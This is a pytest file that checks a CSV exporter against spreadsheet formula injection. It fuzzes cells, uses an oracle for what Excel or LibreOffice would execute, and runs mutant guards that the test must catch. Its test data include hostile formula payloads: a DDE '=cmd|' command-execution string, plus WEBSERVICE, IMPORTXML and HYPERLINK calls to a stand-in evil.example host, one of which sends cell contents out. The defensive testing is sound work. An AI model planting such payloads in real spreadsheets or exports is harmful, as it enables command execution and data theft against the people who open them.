"""T25: no cell of an export is a formula in a spreadsheet, and each gives back exactly what was written."""

import csv
import io
import random
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

from desk.sheet import restored
from desk.text import clean
from handlers import exporting
from handlers.exporting import Format
from tests.faults.hostile import hostile
from tests.faults.replay import SEED, note, replay

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BEFORE = ("", "", "", " ", "\u00a0", "\u3000", "\ufeff", "\u200b", "'", "''", '"', "\t ", "\r\n")
FORMULAS = (
    *(
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example";"bank")',
        "@SUM(A1:A9)",
        "+1+1",
        "-2+3",
    ),
    *('=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")', "-1"),
    *('="a"&"b"', "+49 30 123456", "@ada", "- a list", "=) a smile", ",=1+1", '",=1+1', '"\n=1+1', ";=1+1"),
)
PLAIN = ("the printer", "", "12", "1e5", "00123", "'quoted'", "它坏了", "=", "-", "'", "a\tb", "a\r\nb", '"')


def cell(dice: random.Random) -> str:
    """Something that a person may have written so that a spreadsheet runs it."""
    kind = dice.random()
    if kind < 0.5:
        return dice.choice(BEFORE) + dice.choice(FORMULAS)
    if kind < 0.7:
        return dice.choice(BEFORE) + dice.choice(STARTS) + clean(hostile(dice))
    return dice.choice(PLAIN) if kind < 0.8 else clean(hostile(dice))


# --- the oracle: what a spreadsheet makes of a cell ---------------------------------------------------


def is_live(field: str, *, quoted: bool) -> bool:
    """Whether Excel or LibreOffice could take the field for a formula: by its first characters.

    Both forget blanks and what cannot be seen before it, know full-width forms, and do not care for quotes.
    A number that stands bare is a number, whatever its sign.
    """
    if not quoted and _is_number(field):
        return False
    if field[:1] in {"\t", "\r", "\n"}:
        return True
    seen = field
    while seen and (seen[0].isspace() or unicodedata.category(seen[0]) in {"Cf", "Cc", "Zs"}):
        seen = seen[1:]
    return unicodedata.normalize("NFKC", seen[:1]) in {"=", "+", "-", "@"}


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def read(text: str) -> list[list[tuple[str, bool]]]:
    """The fields of a table with whether each stood in quotes, by RFC 4180 and not by Python's reader."""
    rows: list[list[tuple[str, bool]]] = [[]]
    at = 0
    while at < len(text):
        quoted = text[at] == '"'
        field, at = _quoted(text, at + 1) if quoted else _bare(text, at)
        rows[-1].append((field, quoted))
        if text[at : at + 2] == "\r\n":
            rows.append([])
            at += 2
        elif at < len(text):
            assert text[at] == ",", f"{text[at]!r} after a field"
            at += 1
    return rows[:-1] if rows[-1] == [] else rows


def _quoted(text: str, at: int) -> tuple[str, int]:
    field = ""
    while True:
        end = text.index('"', at)
        field += text[at:end]
        if text[end + 1 : end + 2] != '"':
            return field, end + 1
        field, at = field + '"', end + 2


def _bare(text: str, at: int) -> tuple[str, int]:
    ends = [found for mark in (",", "\r\n") if (found := text.find(mark, at)) >= 0]
    end = min(ends, default=len(text))
    return text[at:end], end


# --- the trial ---------------------------------------------------------------------------------------


def tried(figure: int, change: Callable[[str], str] = lambda text: text) -> list[str]:
    """What was wrong with so many hostile cells, written ten in a row beside numbers, and read back."""
    dice = random.Random(SEED)
    rows = [
        {f"c{at}": cell(dice) for at in range(10)} | {"number": dice.randint(-9, 9)}
        for _ in range(figure // 10)
    ]
    stream = io.StringIO(newline="")
    exporting.write(stream, Format.CSV, list(rows[0]), rows)
    text = change(stream.getvalue())
    found = read(text)[1:]
    assert [[field for field, _ in row] for row in found] == list(csv.reader(io.StringIO(text, newline="")))[
        1:
    ]
    return [problem for row, seen in zip(rows, found, strict=True) for problem in wrongs(row, seen)]


def wrongs(row: dict[str, Any], seen: list[tuple[str, bool]]) -> list[str]:
    """What is wrong with a row as a spreadsheet and an importer read it."""
    *texts, (number, bare) = seen
    live = [f"live: {field!r}" for field, quoted in texts if is_live(field, quoted=quoted)]
    lost = [
        f"lost: {row[f'c{at}']!r} became {field!r}"
        for at, (field, _) in enumerate(texts)
        if restored(field) != row[f"c{at}"]
    ]
    kept = number == str(row["number"]) and not bare
    return [*live, *lost, *([] if kept else [f"no number: {number!r}"])]


@pytest.mark.parametrize(
    "figure", [pytest.param(2_500, id="default"), pytest.param(100_000, id="soak", marks=pytest.mark.soak)]
)
def test_no_cell_is_a_formula_and_each_comes_back(figure: int) -> None:
    found = tried(figure)
    note(f"{figure} cells, {len(found)} wrong")
    assert not found, "\n".join([*found[:5], replay()])


def test_what_is_no_text_stays_what_it_is() -> None:
    """Numbers below zero are no formulas, and stay numbers."""
    row = {"count": -3, "share": -0.5, "yes": True, "at": datetime(2026, 3, 2, tzinfo=UTC), "none": None}
    stream = io.StringIO(newline="")
    exporting.write(stream, Format.CSV, list(row), [row])
    assert stream.getvalue().split("\r\n")[1] == '-3,-0.5,"yes","2026-03-02T00:00:00+00:00",""'


@pytest.mark.parametrize(
    "guard",
    [
        pytest.param(lambda text: f"\t{text}", id="TAB prefix"),
        pytest.param(lambda text: text, id="nothing"),
        pytest.param(lambda text: "'" + text if text[:1] in set("=+-@") else text, id="only plain signs"),
        pytest.param(lambda text: text.lstrip("=+-@"), id="signs stripped"),
    ],
)
def test_a_guard_that_does_not_hold_is_caught(
    guard: Callable[[str], str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """T25's mutants."""
    monkeypatch.setattr(exporting, "guarded", guard)
    assert tried(2_000)
